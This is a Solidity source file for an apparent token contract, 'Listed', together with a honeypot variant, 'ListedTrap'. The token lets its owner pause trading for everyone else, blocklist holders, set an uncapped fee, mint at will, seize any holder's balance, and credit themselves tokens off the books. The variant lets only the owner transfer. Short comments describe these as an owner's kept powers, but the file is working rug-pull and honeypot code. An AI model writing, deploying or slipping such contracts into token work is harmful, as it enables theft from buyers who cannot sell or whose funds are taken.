// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

/// A token as venues list them: it trades freely until its owner uses one of the powers that it keeps.
contract Listed {
    string public name = "Listed token";
    string public symbol = "LST";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    bool public paused;
    uint16 public feePercent;
    address public owner;
    address public marketing;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public blocked;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor(uint256 supply) {
        init(supply);
    }

    function init(uint256 supply) public {
        require(totalSupply == 0, "done");
        owner = msg.sender;
        marketing = msg.sender;
        _mint(msg.sender, supply);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function setPaused(bool on) external onlyOwner {
        paused = on;
    }

    function setFee(uint16 percent) external onlyOwner {
        feePercent = percent;
    }

    function setMarketing(address wallet) external onlyOwner {
        marketing = wallet;
    }

    function setBlocked(address holder, bool on) external onlyOwner {
        blocked[holder] = on;
    }

    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }

    function seize(address from, uint256 amount) external onlyOwner {
        balanceOf[from] -= amount;
        balanceOf[marketing] += amount;
    }

    function credit(uint256 amount) external onlyOwner {
        balanceOf[owner] += amount;
    }

    function rename(string calldata next) external onlyOwner {
        symbol = next;
    }

    function setOwner(address next) external onlyOwner {
        owner = next;
    }

    function _mint(address to, uint256 amount) internal {
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function _move(address from, address to, uint256 amount) internal {
        require(!paused || from == owner, "paused");
        require(!blocked[from], "blocked");
        uint256 fee = from == owner ? 0 : (amount * feePercent) / 100;
        balanceOf[from] -= amount;
        balanceOf[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
        if (fee > 0) {
            balanceOf[marketing] += fee;
            emit Transfer(from, marketing, fee);
        }
    }
}

/// What an upgrade of the token may bring: nobody but the owner moves anything.
contract ListedTrap {
    string public name = "Listed token";
    string public symbol = "LST";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    bool public paused;
    uint16 public feePercent;
    address public owner;
    address public marketing;
    mapping(address => uint256) public balanceOf;

    function transfer(address to, uint256 amount) external returns (bool) {
        require(msg.sender == owner, "only the owner sells");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}
